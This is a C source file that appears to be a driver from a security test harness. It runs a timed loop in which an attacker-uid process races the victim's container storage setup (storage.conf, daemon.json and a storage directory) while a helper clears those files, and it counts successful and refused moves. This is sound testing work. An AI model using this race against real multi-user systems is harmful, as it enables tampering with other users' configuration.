/* The same moves without anybody standing still: as often as they can be made, until SIGTERM. What no stepping can do is here: several
 * helpers at once, and moves inside a system call. Whoever attacks, the user clears up now and then, so that logins have work to do. */
#include "attacker.h"

#include <signal.h>
#include <stdio.h>
#include <unistd.h>

static volatile sig_atomic_t is_over;
static void end(int signal) { (void)signal, is_over = 1; }

/* The directories of the files stay: a login from below which its user takes them away has failed by that user's doing, and it could not
 * be told from one that somebody else made fail. */
static void clear_up(pid_t parent) {
  become(VICTIM_UID);
  while (getppid() == parent) {
    unlink(HOME "/.config/containers/storage.conf");
    unlink(HOME "/.config/docker/daemon.json");
    remove_tree(STORAGE);
    usleep(3000);
  }
  _exit(0);
}

int race(struct attack *attack) {
  pid_t self = getpid();
  if (!attack->is_home && fork() == 0) clear_up(self);
  long moves = 0, refused = 0;
  unsigned wait = 1;
  signal(SIGTERM, end);
  become(attack->uid);
  while (!is_over) {
    if (thing_comes(attack, getpid()) == 0) moves++;
    else refused++;
    wait = wait * 1103515245u + 12345u;
    usleep(wait >> 16 & 1023);
    thing_goes(attack, getpid());
    usleep(wait >> 8 & 511);
    things_end(attack);
    usleep(wait >> 4 & 2047); /* a login that meets nobody */
  }
  printf("moves=%ld refused=%ld\n", moves, refused);
  return 0;
}
